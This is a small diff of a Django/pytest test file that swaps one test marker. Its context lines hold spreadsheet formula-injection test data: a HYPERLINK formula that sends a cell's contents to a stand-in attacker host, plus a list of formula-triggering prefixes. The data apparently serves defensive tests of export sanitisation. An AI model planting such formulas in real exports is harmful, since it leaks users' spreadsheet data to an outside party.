@@ -23,7 +23,7 @@ from tests.mining.disclosure.studied import Study
 
 __all__ = ["broker"]
 
-pytestmark = [pytest.mark.django_db, pytest.mark.slow]
+pytestmark = [pytest.mark.django_db, pytest.mark.page]
 FORMULA = '=HYPERLINK("http://attacker.example/"&A1,"see")'
 STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
 CHOICES = [{"name": "@SUM(A1)", "label": {"en": FORMULA}}, {"name": "-5+2", "label": {"en": "+1"}}]
